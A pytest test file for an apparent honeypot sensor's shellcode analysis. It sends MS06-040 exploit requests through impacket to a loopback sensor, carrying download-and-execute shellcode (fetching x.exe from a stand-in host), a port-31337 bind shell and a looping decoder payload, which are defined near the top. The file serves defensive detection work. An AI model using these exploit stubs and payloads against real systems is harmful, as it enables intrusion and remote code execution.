"""The live sensor's payload analysis (stormwatch.sensor.analysis wired into SensorServer).

A real sensor (real sessions) on loopback, attacked with impacket by MS06-040 requests whose
PathName carries real, hand-assembled shellcode (tests/shellcode_vectors.py) in the layout of
ms06_040_netapi's Windows 2000 target (stormwatch.demo.shapes). What must hold:

* the session's ``payload.shellcode`` (and ``payload.offer`` when the shellcode downloads) come
  after its ``exploit.attempt`` and before its ``session.closed``, which stays last;
* a hostile payload (``jmp $`` behind a decoder) emulated to its time limit does not hold the event
  loop: another client's whole session is served while it runs;
* the same payload is emulated once, whether sent again later or while it is being analysed;
* an analyser that raises costs the analysis, never the session;
* stopping the server with analyses pending or running ends every session with ``session.closed``.

Ordering, not durations, is asserted: a worker that is held (``Gated``) keeps emulating the hostile
payload until the test releases it, so "the other session finished while the analysis ran" is a
fact of the event order, whatever the machine's speed.
"""

from __future__ import annotations

import asyncio
import logging
import random
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("unicorn", reason="payload analysis needs the unicorn emulator")

from impacket import smb
from impacket.dcerpc.v5 import srvs, transport
from impacket.smbconnection import SMBConnection

import shellcode_vectors as sv
import stormwatch.sensor.analysis as analysis_mod
import stormwatch.sensor.server as server_mod
from stormwatch.demo import shapes
from stormwatch.detect.shellcode import Limits
from stormwatch.events.records import check_record
from stormwatch.sensor.analysis import PayloadAnalyser, PayloadEvents
from stormwatch.sensor.download import Downloader
from stormwatch.sensor.payloads import PayloadStore
from stormwatch.sensor.persona import Persona, generate
from stormwatch.sensor.server import SensorServer
from stormwatch.sensor.spool import Spool

HOST = "127.0.0.1"
WAIT = 30.0  # seconds any wait in these tests gives up after (a failure, never a figure asserted)

DOWNLOADER = sv.xor8_callpop(sv.download_exec("http://198.51.100.4:8080/x.exe", "x.exe"), 0x99)
BINDER = sv.xor32_fnstenv(sv.bind_shell(31337), b"\x5a\x17\xc3\x3e")
HOSTILE = sv.xor8_callpop(sv.JMP_SELF, 0x41)  # found (GetPC + decoder), then loops for ever
# Unicorn counts instructions natively: a budget this large leaves the wall-clock limit to end it.
HOSTILE_LIMITS = Limits(max_instructions=10**10, max_seconds=0.2, max_runs=1)


class LiveSensor:
    """The real sensor on ephemeral loopback ports, its loop in a thread of its own so that
    blocking impacket clients can run in the test's thread."""

    def __init__(self, tmp: Path, persona: Persona, analyser: PayloadAnalyser,
                 downloader: Downloader | None = None) -> None:
        self.persona = persona
        self.analyser = analyser
        self.downloader = downloader
        self.records: list[dict[str, Any]] = []
        self.spool = Spool(tmp / "spool.jsonl", "hp-test", on_record=self.records.append)
        self.payloads = PayloadStore(tmp / "payloads")
        self.server = SensorServer(spool=self.spool, persona=persona, host=HOST,
                                   ports={"smb": 0, "netbios-ssn": None, "dcerpc": None, "nbns": None},
                                   payloads=self.payloads, analyser=analyser, downloader=downloader,
                                   rng=random.Random(5))
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, name="sensor", daemon=True)
        self.thread.start()
        self.call(self.server.start())
        self.port = self.server.bound["smb"]
        self.stopped = False

    def call(self, coro: Any, timeout: float = WAIT) -> Any:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def stop(self) -> None:
        if self.stopped:
            return
        self.stopped = True
        self.call(self.server.stop())
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(WAIT)
        self.loop.close()
        self.analyser.close()
        if self.downloader is not None:
            self.downloader.close()
        self.spool.close()

    # -- reading the events --------------------------------------------------------------------------
    def events(self, name: str) -> list[dict[str, Any]]:
        return [r for r in list(self.records) if r["event"] == name]

    def of(self, session: str) -> list[dict[str, Any]]:
        return [r for r in list(self.records) if r["session"] == session]

    def kinds(self, session: str) -> list[str]:
        return [r["event"] for r in self.of(session)]

    def closed(self, session: str) -> bool:
        return "session.closed" in self.kinds(session)

    def until(self, cond: Callable[[], bool], what: str) -> None:
        deadline = time.monotonic() + WAIT
        while not cond():
            if time.monotonic() > deadline:
                raise AssertionError(f"waited for {what}; events: {[r['event'] for r in self.records]}")
            time.sleep(0.01)

    def attack_session(self, n: int = 1) -> list[str]:
        """Session ids of the first ``n`` exploit.attempt events, once there are that many."""
        self.until(lambda: len(self.events("exploit.attempt")) >= n, f"{n} exploit.attempt")
        return [r["session"] for r in self.events("exploit.attempt")[:n]]


class Gated(PayloadAnalyser):
    """The real analyser, counting its runs; with ``hold`` set it keeps emulating a payload (each
    run to its emulation limit) until :attr:`release` is set, so a test decides when it ends."""

    def __init__(self, limits: Limits | None = None, *, hold: bool = False) -> None:
        super().__init__(limits)
        self.hold = hold
        self.started = threading.Event()
        self.release = threading.Event()
        self.runs = 0
        self.emulations = 0

    def _run(self, payload: bytes) -> PayloadEvents:
        self.runs += 1
        self.started.set()
        while True:
            result = super()._run(payload)
            self.emulations += 1
            if not self.hold or self.release.wait(0):
                return result


@pytest.fixture
def persona() -> Persona:
    return generate("win2000", random.Random(2006))


@pytest.fixture
def make_sensor(tmp_path: Path, persona: Persona) -> Iterator[Callable[[PayloadAnalyser], LiveSensor]]:
    made: list[LiveSensor] = []

    def make(analyser: PayloadAnalyser) -> LiveSensor:
        s = LiveSensor(tmp_path / f"s{len(made)}", persona, analyser)
        made.append(s)
        return s

    yield make
    for s in made:
        if isinstance(s.analyser, Gated):
            s.analyser.release.set()  # a failed test must not leave the worker emulating for ever
        s.stop()


# -- clients ------------------------------------------------------------------------------------------

def exploit_stub(code: bytes, seed: int = 1) -> bytes:
    """NetprPathCanonicalize as ms06_040_netapi sends it to Windows 2000, ``code`` in the PathName."""
    rng = random.Random(seed)
    return shapes.ms06_040_stub(shapes.ms06_040_path("w2k", code, rng), "w2k", rng)


def login(sensor: LiveSensor) -> SMBConnection:
    conn = SMBConnection(sensor.persona.host_name, HOST, sess_port=sensor.port, timeout=10,
                         preferredDialect=smb.SMB_DIALECT)
    conn.login("", "")
    return conn


def send_exploit(sensor: LiveSensor, stub: bytes, *, hang_up: bool = True) -> SMBConnection:
    """Anonymous login, IPC$, \\browser, bind srvsvc, opnum 31 without waiting for the answer (as
    the Metasploit module does); then hang up unless told not to."""
    conn = login(sensor)
    rpc = transport.SMBTransport(HOST, filename=r"\browser", smb_connection=conn)
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(srvs.MSRPC_UUID_SRVS)
    dce.call(31, stub)
    if hang_up:
        conn.close()
    return conn


def enumerate_shares(sensor: LiveSensor) -> None:
    """A benign client's whole session: login, share list, hang up."""
    conn = login(sensor)
    assert {s["shi1_netname"][:-1] for s in conn.listShares()} >= {"IPC$"}
    conn.close()


def assert_last_closed(sensor: LiveSensor) -> None:
    """Every session: exactly one session.closed, and it is the last event; every record is one
    the store takes."""
    for sid in dict.fromkeys(r["session"] for r in sensor.records):
        kinds = sensor.kinds(sid)
        assert kinds.count("session.closed") == 1 and kinds[-1] == "session.closed", kinds
    for r in sensor.records:
        check_record(r)


# -- the tests ------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("code", "decoder", "offers"), [
    (DOWNLOADER, "xor8", ["http://198.51.100.4:8080/x.exe"]),
    (BINDER, "xor32", []),
], ids=["download-exec", "bind-shell"])
def test_exploit_yields_payload_events_before_session_closed(make_sensor: Callable[[PayloadAnalyser], LiveSensor],
                                                             code: bytes, decoder: str, offers: list[str]) -> None:
    sensor = make_sensor(PayloadAnalyser())
    send_exploit(sensor, exploit_stub(code))
    [sid] = sensor.attack_session()
    sensor.until(lambda: sensor.closed(sid), "the exploit session's session.closed")
    kinds = sensor.kinds(sid)
    assert kinds.index("exploit.attempt") < kinds.index("payload.shellcode") < kinds.index("session.closed")
    [attempt] = sensor.events("exploit.attempt")
    [sc] = sensor.events("payload.shellcode")
    assert attempt["vuln"] == "MS06-040" and sc["session"] == sid
    assert sc["payload_sha256"] == attempt["payload_sha256"] and sc["size"] == attempt["payload_size"]
    assert sc["decoder"] == decoder and sc["stop_reason"] == "exit_api"
    assert (sc["src_ip"], sc["dst_port"]) == (HOST, sensor.port)  # the exploit connection's identity
    got = [r["url"] for r in sensor.events("payload.offer")]
    assert got == offers
    if offers:
        assert "URLDownloadToFileA" in sc["api_profile"]
        assert kinds.index("payload.shellcode") < kinds.index("payload.offer") < kinds.index("session.closed")
    else:
        assert sc["binds"] == [31337] and "payload.offer" not in kinds
    assert sensor.events("session.closed")[0]["reason"] == "client"
    assert_last_closed(sensor)


def test_hostile_payload_does_not_hold_the_event_loop(make_sensor: Callable[[PayloadAnalyser], LiveSensor]) -> None:
    analyser = Gated(HOSTILE_LIMITS, hold=True)
    sensor = make_sensor(analyser)
    send_exploit(sensor, exploit_stub(HOSTILE))
    [hostile] = sensor.attack_session()
    assert analyser.started.wait(WAIT), "the analysis never started"
    enumerate_shares(sensor)  # a whole session while the worker emulates the loop
    sensor.until(lambda: len(sensor.events("session.closed")) == 1, "the benign session's session.closed")
    [other] = [r["session"] for r in sensor.events("session.closed")]
    assert other != hostile
    assert not analyser.release.is_set() and "payload.shellcode" not in sensor.kinds(hostile)
    assert not sensor.closed(hostile)  # its session.closed waits for the analysis
    analyser.release.set()
    sensor.until(lambda: sensor.closed(hostile), "the hostile session's session.closed")
    kinds = sensor.kinds(hostile)
    assert kinds.index("exploit.attempt") < kinds.index("payload.shellcode") < kinds.index("session.closed")
    [sc] = sensor.events("payload.shellcode")
    assert sc["stop_reason"] == "time_limit" and sc["getpc"] == "call-pop", sc
    assert analyser.emulations >= 1 and analyser.runs == 1
    assert_last_closed(sensor)


def test_same_payload_is_analysed_once(make_sensor: Callable[[PayloadAnalyser], LiveSensor]) -> None:
    analyser = Gated()
    sensor = make_sensor(analyser)
    stub = exploit_stub(DOWNLOADER)
    for _ in range(2):  # again after the first analysis finished: from the cache
        send_exploit(sensor, stub)
    sids = sensor.attack_session(2)
    sensor.until(lambda: all(sensor.closed(s) for s in sids), "both session.closed")
    assert analyser.runs == 1 and analyser.analysed == 1
    a, b = (next(r for r in sensor.of(s) if r["event"] == "payload.shellcode") for s in sids)
    assert {k: v for k, v in a.items() if k in ("decoder", "api_profile", "payload_sha256")} == \
           {k: v for k, v in b.items() if k in ("decoder", "api_profile", "payload_sha256")}
    assert len(sensor.events("payload.offer")) == 2
    assert_last_closed(sensor)


def test_same_payload_while_being_analysed_waits_for_that_analysis(
        make_sensor: Callable[[PayloadAnalyser], LiveSensor]) -> None:
    analyser = Gated(HOSTILE_LIMITS, hold=True)
    sensor = make_sensor(analyser)
    stub = exploit_stub(HOSTILE)
    send_exploit(sensor, stub)
    assert analyser.started.wait(WAIT)
    send_exploit(sensor, stub)  # the first analysis of this payload is still running
    sids = sensor.attack_session(2)
    assert not any(sensor.closed(s) for s in sids)
    analyser.release.set()
    sensor.until(lambda: all(sensor.closed(s) for s in sids), "both session.closed")
    assert analyser.runs == 1
    for sid in sids:
        kinds = sensor.kinds(sid)
        assert kinds.index("exploit.attempt") < kinds.index("payload.shellcode") < kinds.index("session.closed")
    assert_last_closed(sensor)


def test_analysis_that_raises_costs_the_analysis_not_the_session(
        make_sensor: Callable[[PayloadAnalyser], LiveSensor], monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    def broken(data: bytes, *, limits: Limits | None = None) -> Any:
        raise RuntimeError("scripted analyser bug")

    monkeypatch.setattr(analysis_mod, "analyze", broken)
    analyser = PayloadAnalyser()
    sensor = make_sensor(analyser)
    with caplog.at_level(logging.ERROR):
        send_exploit(sensor, exploit_stub(DOWNLOADER))
        [sid] = sensor.attack_session()
        sensor.until(lambda: sensor.closed(sid), "session.closed")
    assert analyser.failed == 1 and analyser.analysed == 0
    assert "payload analysis failed" in caplog.text and "scripted analyser bug" in caplog.text
    assert not any(k.startswith("payload.") for k in sensor.kinds(sid))
    assert "session.anomaly" not in sensor.kinds(sid)
    assert sensor.events("session.closed")[0]["reason"] == "client"
    enumerate_shares(sensor)  # the sensor serves on
    sensor.until(lambda: len(sensor.events("session.closed")) == 2, "the next session")
    assert_last_closed(sensor)


class RefusingAnalyser(PayloadAnalyser):
    """An analyser that fails before any work starts (a shut-down pool, a bug in submit)."""

    def submit(self, payload: bytes, done: Callable[[PayloadEvents], None], sha256: str | None = None) -> None:
        raise RuntimeError("cannot schedule new futures after shutdown")


class CallbackTwice(PayloadAnalyser):
    """An analyser that reports twice (a bug): the session must still close once, last."""

    def submit(self, payload: bytes, done: Callable[[PayloadEvents], None], sha256: str | None = None) -> None:
        done([])
        done([])


@pytest.mark.parametrize("cls", [RefusingAnalyser, CallbackTwice])
def test_broken_analyser_does_not_lose_the_session(make_sensor: Callable[[PayloadAnalyser], LiveSensor],
                                                   cls: type[PayloadAnalyser],
                                                   caplog: pytest.LogCaptureFixture) -> None:
    sensor = make_sensor(cls())
    with caplog.at_level(logging.ERROR):
        send_exploit(sensor, exploit_stub(DOWNLOADER))
        [sid] = sensor.attack_session()
        sensor.until(lambda: sensor.closed(sid), "session.closed")
    kinds = sensor.kinds(sid)
    assert "exploit.attempt" in kinds and "session.anomaly" not in kinds
    assert sensor.server.counters["internal_errors"] == 0
    if cls is RefusingAnalyser:
        assert "could not be started" in caplog.text
    assert_last_closed(sensor)
    assert sensor.server.open_sessions == 0


def test_stop_with_analyses_running_and_queued(make_sensor: Callable[[PayloadAnalyser], LiveSensor]) -> None:
    """One analysis running (held), one queued behind it, one client still connected: stop()
    cancels the queued one, waits for the running one, and every session ends with session.closed."""
    analyser = Gated(HOSTILE_LIMITS, hold=True)
    sensor = make_sensor(analyser)
    send_exploit(sensor, exploit_stub(HOSTILE))
    assert analyser.started.wait(WAIT)
    send_exploit(sensor, exploit_stub(DOWNLOADER))  # queued behind the hostile one
    still_open = send_exploit(sensor, exploit_stub(BINDER), hang_up=False)  # queued, client connected
    running, queued, connected = sensor.attack_session(3)
    stopping = asyncio.run_coroutine_threadsafe(sensor.server.stop(), sensor.loop)
    sensor.until(lambda: sensor.closed(queued) and sensor.closed(connected), "the queued sessions closed")
    assert not stopping.done() and not sensor.closed(running)  # stop() waits for the running analysis
    analyser.release.set()
    stopping.result(WAIT)
    assert sensor.server.open_sessions == 0
    assert analyser.cancelled == 2 and analyser.runs == 1
    assert "payload.shellcode" in sensor.kinds(running)
    for sid in (queued, connected):
        assert not any(k.startswith("payload.") for k in sensor.kinds(sid))
    reasons = {r["session"]: r["reason"] for r in sensor.events("session.closed")}
    assert (reasons[running], reasons[queued], reasons[connected]) == ("client", "client", "shutdown")
    assert_last_closed(sensor)
    still_open.close()
    sensor.stop()


def test_stop_gives_up_on_an_analysis_that_outlasts_the_shutdown_wait(
        make_sensor: Callable[[PayloadAnalyser], LiveSensor], monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    monkeypatch.setattr(server_mod, "SHUTDOWN_WAIT", 0.3)
    analyser = Gated(HOSTILE_LIMITS, hold=True)
    sensor = make_sensor(analyser)
    send_exploit(sensor, exploit_stub(HOSTILE))
    assert analyser.started.wait(WAIT)
    [sid] = sensor.attack_session()
    with caplog.at_level(logging.WARNING):
        sensor.call(sensor.server.stop())  # returns although the analysis still runs
        assert sensor.closed(sid) and sensor.server.open_sessions == 0
        analyser.release.set()
        # the late result reaches the loop (still running) and is dropped, not written after the close
        sensor.until(lambda: "dropped" in caplog.text, "the late result to be dropped")
    assert not any(k.startswith("payload.") for k in sensor.kinds(sid))
    assert_last_closed(sensor)
    sensor.stop()


def test_analyser_closed_after_its_loop_is_gone(persona: Persona, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """close() after the event loop closed (as the CLI and the demo do) returns, and a result that
    arrives for a closed loop raises nowhere (a thread exception would fail this test)."""
    monkeypatch.setattr(server_mod, "SHUTDOWN_WAIT", 0.3)
    analyser = Gated(HOSTILE_LIMITS, hold=True)
    sensor = LiveSensor(tmp_path, persona, analyser)
    send_exploit(sensor, exploit_stub(HOSTILE))
    assert analyser.started.wait(WAIT)
    sensor.call(sensor.server.stop(), timeout=WAIT)
    sensor.loop.call_soon_threadsafe(sensor.loop.stop)
    sensor.thread.join(WAIT)
    sensor.loop.close()
    analyser.release.set()
    analyser.close()  # waits for the worker; its callback finds the loop closed
    assert analyser.runs == 1
    sensor.spool.close()
